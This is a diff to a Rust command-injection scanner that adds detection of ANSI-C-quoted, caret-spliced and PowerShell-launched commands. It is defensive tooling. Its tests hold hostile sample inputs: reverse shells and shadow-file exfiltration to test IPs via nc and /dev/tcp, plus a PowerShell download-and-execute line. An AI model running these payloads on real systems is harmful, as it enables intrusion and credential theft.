@@ -1357,6 +1357,29 @@ fn read_word(b: &[u8], start: usize, end: usize) -> Word {
             }
             break;
         }
+        // `$'\x69\x64'`: bash ANSI-C quoting spells the word in escapes.
+        if x == b'$' && b.get(i + 1) == Some(&b'\'') {
+            let mut ok = true;
+            let mut bytes = [0u8; WORD_MAX];
+            let mut n = 0;
+            if let Some(next) = ansi_c_string(b, i, end, &mut |c| {
+                if n < WORD_MAX && is_word_byte(c) {
+                    bytes[n] = c;
+                    n += 1;
+                } else {
+                    ok = false;
+                }
+            }) && ok
+                && n > 0
+            {
+                for &c in &bytes[..n] {
+                    w.push(c.to_ascii_lowercase());
+                }
+                w.spliced = true;
+                i = next;
+                continue;
+            }
+        }
         if matches!(x, b'$' | b'`' | b'<' | b'>') {
             let mut n = empty_expansion(b, i, end);
             // `n$u\c$u`: a short lower-case variable inside a word, there
@@ -1379,6 +1402,12 @@ fn read_word(b: &[u8], start: usize, end: usize) -> Word {
                 continue;
             }
             break;
+        }
+        // cmd.exe drops a caret before an ordinary character: `w^h^o^a^m^i`.
+        if x == b'^' && !w.is_empty() && i + 1 < end && b[i + 1].is_ascii_alphanumeric() {
+            w.spliced = true;
+            i += 1;
+            continue;
         }
         if x == b':' && w.len == 1 && i + 1 < end && matches!(b[i + 1], b'\\' | b'/') {
             w.push(b':');
@@ -2003,7 +2032,8 @@ fn check_command_at(
         return false;
     }
     let glued = i == pos;
-    if b[i] == b'$' && !matches!(ctx, Ctx::Span | Ctx::Brace) {
+    let ansi_c = b[i] == b'$' && b.get(i + 1) == Some(&b'\'');
+    if b[i] == b'$' && !ansi_c && !matches!(ctx, Ctx::Span | Ctx::Brace) {
         return check_variable_command(text, sep_start, i, seg_end, ctx, hits, depth);
     }
     // Most words are no command: their first two letters already say so.
@@ -2016,6 +2046,7 @@ fn check_command_at(
     }
     // Most separators in prose are followed by something no command starts with.
     if !(b[i].is_ascii_alphanumeric()
+        || ansi_c
         || matches!(
             b[i],
             b'\'' | b'"' | b'\\' | b'/' | b'?' | b'*' | b'~' | b'.' | b'_'
@@ -2159,6 +2190,14 @@ fn check_command_at(
     if w.spliced && !w.quoted && ctx == Ctx::Subst {
         args.shellish = true;
     }
+    // `grep -r TODO src | wc -l gives me 42`: a pipeline quoted at the start
+    // of a sentence that goes on in English after the pipe.
+    if matches!(effective, Ctx::Start | Ctx::Weak)
+        && !args.strong
+        && pipe_into_prose(text, args.end, seg_end)
+    {
+        return false;
+    }
     if !decide(cmd, effective, &args) {
         return false;
     }
@@ -2263,6 +2302,42 @@ fn check_variable_command(
     false
 }
 
+/// Whether a `|` at `at` (after blanks) leads into the rest of a line that
+/// is a sentence: plain words, a function word among them, and no shell
+/// syntax beyond options and numbers.
+fn pipe_into_prose(text: &str, at: usize, seg_end: usize) -> bool {
+    let b = text.as_bytes();
+    let p = at
+        + b[at.min(seg_end)..seg_end]
+            .iter()
+            .take_while(|&&c| c == b' ' || c == b'\t')
+            .count();
+    if b.get(p) != Some(&b'|') || b.get(p + 1) == Some(&b'|') {
+        return false;
+    }
+    let end = memchr::memchr(b'\n', &b[p + 1..seg_end]).map_or(seg_end, |o| p + 1 + o);
+    let tail = &text[p + 1..end.min(p + 1 + 200)];
+    if tail.bytes().any(|c| {
+        matches!(
+            c,
+            b';' | b'&' | b'|' | b'>' | b'<' | b'`' | b'$' | b'/' | b'\\'
+        )
+    }) {
+        return false;
+    }
+    let mut words = 0;
+    let mut stops = 0;
+    for t in tail.split_ascii_whitespace() {
+        if t.bytes().all(|c| c.is_ascii_alphabetic()) {
+            words += 1;
+            if STOP_WORDS.iter().any(|s| t.eq_ignore_ascii_case(s)) {
+                stops += 1;
+            }
+        }
+    }
+    stops >= 1 && words >= 3
+}
+
 /// The most values a line's variables may expand to.
 const EXPANSION_MAX: usize = 256;
 
@@ -2270,6 +2345,12 @@ const EXPANSION_MAX: usize = 256;
 /// a bare word); returns it and where it ends.
 fn assignment_value(b: &[u8], mut i: usize, end: usize, out: &mut Vec<u8>) -> usize {
     while i < end && out.len() < EXPANSION_MAX {
+        if b[i] == b'$'
+            && let Some(next) = ansi_c_string(b, i, end, &mut |c| out.push(c))
+        {
+            i = next;
+            continue;
+        }
         match b[i] {
             b'\\' if i + 1 < end => {
                 out.push(b[i + 1]);
@@ -2290,6 +2371,61 @@ fn assignment_value(b: &[u8], mut i: usize, end: usize, out: &mut Vec<u8>) -> us
         }
     }
     i
+}
+
+/// Bash ANSI-C quoting at `i`: `$'\x69\x64'`, `$'\143\141\164'`, `$'\u0069d'`.
+/// Passes each byte the string stands for (a `\uHHHH` outside ASCII as
+/// `?`) to `put` and returns the index after the closing quote; `None`
+/// when `i` starts no such string or it is not closed.
+fn ansi_c_string(b: &[u8], i: usize, end: usize, put: &mut dyn FnMut(u8)) -> Option<usize> {
+    if b.get(i + 1) != Some(&b'\'') {
+        return None;
+    }
+    let close = i + 2 + b[i + 2..end].iter().take(256).position(|&x| x == b'\'')?;
+    let s = &b[i + 2..close];
+    let hex = |x: u8| (x as char).to_digit(16);
+    let mut k = 0;
+    while k < s.len() {
+        if s[k] != b'\\' || k + 1 == s.len() {
+            put(s[k]);
+            k += 1;
+            continue;
+        }
+        let e = s[k + 1];
+        k += 2;
+        match e {
+            b'x' | b'u' | b'U' => {
+                let max = match e {
+                    b'x' => 2,
+                    b'u' => 4,
+                    _ => 8,
+                };
+                let mut v = 0u32;
+                let mut n = 0;
+                while n < max && k < s.len() {
+                    let Some(d) = hex(s[k]) else { break };
+                    v = v * 16 + d;
+                    n += 1;
+                    k += 1;
+                }
+                put(u8::try_from(v).ok().filter(u8::is_ascii).unwrap_or(b'?'));
+            }
+            b'0'..=b'7' => {
+                let mut v = u32::from(e - b'0');
+                let mut n = 1;
+                while n < 3 && k < s.len() && (b'0'..=b'7').contains(&s[k]) {
+                    v = v * 8 + u32::from(s[k] - b'0');
+                    n += 1;
+                    k += 1;
+                }
+                put(u8::try_from(v & 0xff).unwrap_or(b'?'));
+            }
+            b'n' => put(b'\n'),
+            b't' => put(b'\t'),
+            other => put(other),
+        }
+    }
+    Some(close + 1)
 }
 
 /// `a=/etc&&b=/passwd&&c=cat&&$c $a$b`, `v='u';cu$v\rl x`: the command at
@@ -2783,6 +2919,8 @@ fn scan_segment(
     // of `$x` costs a bounded number of look-backs.
     let mut last_eq: Option<usize> = None;
     let mut assembled = 0u8;
+    // Inside a markdown code fence: lines there are documentation.
+    let mut in_fence = false;
     let mut i = seg_start;
     while i < seg_end {
         i = triggers.next(b, i);
@@ -2805,7 +2943,10 @@ fn scan_segment(
                 while j < seg_end && matches!(b[j], b'\n' | b'\r') {
                     j += 1;
                 }
-                check_command(text, i, j, seg_end, Ctx::Weak, hits);
+                // A line in a code fence shows a command, as a code span
+                // in prose does: only hostile content counts there.
+                let ctx = if in_fence { Ctx::Span } else { Ctx::Weak };
+                check_command(text, i, j, seg_end, ctx, hits);
                 i = j;
             }
             b'$' => {
@@ -2904,6 +3045,7 @@ fn scan_segment(
                 while i < seg_end && b[i] == b'`' {
                     i += 1;
                 }
+                in_fence = !in_fence;
             }
             b'`' => {
                 let close = b[i + 1..seg_end].iter().take(400).position(|&y| y == b'`');
@@ -3269,6 +3411,9 @@ const GATES: &[&[&str]] = &[
     &["@("],
     &["constructor", "mainmodule"],
     &["sh,-c,"],
+    &["%comspec%"],
+    &["call %", "call  %"],
+    &["start-process", "invoke-", "iex", "saps"],
 ];
 
 /// Unanchored bytes the gate automaton walks rather than start a new call.
@@ -3310,7 +3455,7 @@ static GATE_AC: LazyLock<(AhoCorasick, Vec<u64>)> = LazyLock::new(|| {
 static ANCHOR: [bool; 256] = {
     let mut t = [false; 256];
     // At most 16 bytes: the SIMD search handles no more single bytes.
-    let set = b"/-|<>:(\n_@#${";
+    let set = b"/-|<>:(\n_@#${%";
     let mut k = 0;
     while k < set.len() {
         t[set[k] as usize] = true;
@@ -3494,6 +3639,19 @@ const PATTERN_SRC: &[(&str, usize)] = &[
     (
         r"(?i)(?:^|[\s,={(\x00])(?:/bin/|/usr/bin/)?(?:ba|z|k|da|c|tc)?sh(?:\.exe)?,-c,[^\s,]",
         R_EVASION,
+    ),
+    // cmd.exe through its variable: `& %COMSPEC% /c dir`.
+    (r"(?i)%comspec%\s+/[ck]\s+\S", R_WINDOWS),
+    // A command spliced from cmd variables: `set a=who&& set b=ami&& call %a%%b%`.
+    (
+        r"(?i)(?-u:\b)set\s+\x22?\w{1,16}=[^\n&|]{1,80}&&?[^\n]{0,200}?(?-u:\b)call\s+(?:%\w{1,16}%){1,8}",
+        R_WINDOWS,
+    ),
+    // A PowerShell launcher after a separator, given a program, options or
+    // code: `; Start-Process calc.exe`, `| iex $payload`.
+    (
+        r"(?i)(?:[;&|\n\x60]|\$\()\s*(?:start-process|saps|invoke-expression|iex)\s*(?:[\w.\\/:-]+\.(?:exe|bat|cmd|ps1|vbs|hta|scr)(?-u:\b)|(?:calc|cmd|powershell|pwsh|notepad|mshta|rundll32)(?-u:\b)|-\w|['\x22($])",
+        R_WINDOWS,
     ),
 ];
 
@@ -4094,6 +4252,56 @@ mod tests {
             "User-Agent: ${jNdI:rmi://x/y}",
         ] {
             assert!(rules(t).contains(&"cmdi-jndi"), "missed {t:?}");
+        }
+    }
+
+    #[test]
+    fn ansi_c_quoting() {
+        assert!(flagged("| $'\\x77\\x68\\x6f\\x61\\x6d\\x69'"));
+        assert!(flagged("; $'\\150\\145\\141\\144' /etc/shadow"));
+        assert!(flagged(";C=$'\\x75\\x6e\\x61\\x6d\\x65';$C -a"));
+        assert!(!flagged("printf $'tab\\there' is how bash spells a tab"));
+    }
+
+    #[test]
+    fn pipelines_quoted_in_sentences() {
+        assert!(!flagged("ps aux | grep node shows it is still running"));
+        assert!(flagged("ps aux | nc 203.0.113.7 4444"));
+        assert!(flagged("find / -perm -4000 | xargs ls -la"));
+    }
+
+    #[test]
+    fn code_fences_show_commands() {
+        assert!(!flagged(
+            "Setup:\n\n```bash\nnpm install --save-dev jest\n```\nthen run it"
+        ));
+        assert!(!flagged("```\ncargo build --release\n```"));
+        assert!(flagged("```sh\ncat /etc/shadow | nc 203.0.113.7 4444\n```"));
+        assert!(flagged(
+            "```sh\nbash -i >& /dev/tcp/203.0.113.7/4444 0>&1\n```"
+        ));
+    }
+
+    #[test]
+    fn windows_obfuscation() {
+        for t in [
+            "&& i^p^c^o^n^f^i^g /all",
+            "|| %ComSpec% /k whoami",
+            "& set p=ip&& set q=config&& call %p%%q%",
+            "| saps notepad.exe",
+            "| Invoke-Expression $env:PAYLOAD",
+            "& iex (iwr http://198.51.100.4/a.ps1)",
+        ] {
+            assert!(flagged(t), "missed {t:?}");
+        }
+        for t in [
+            "x^2 + y^2 = r^2; solve for r",
+            "we call %PATH% the search path",
+            "set COLOR=blue and restart",
+            "Tests; Start-Process is a cmdlet worth knowing",
+            "the caret in ^C interrupts; use it",
+        ] {
+            assert!(!flagged(t), "false positive on {t:?}: {:?}", rules(t));
         }
     }
 
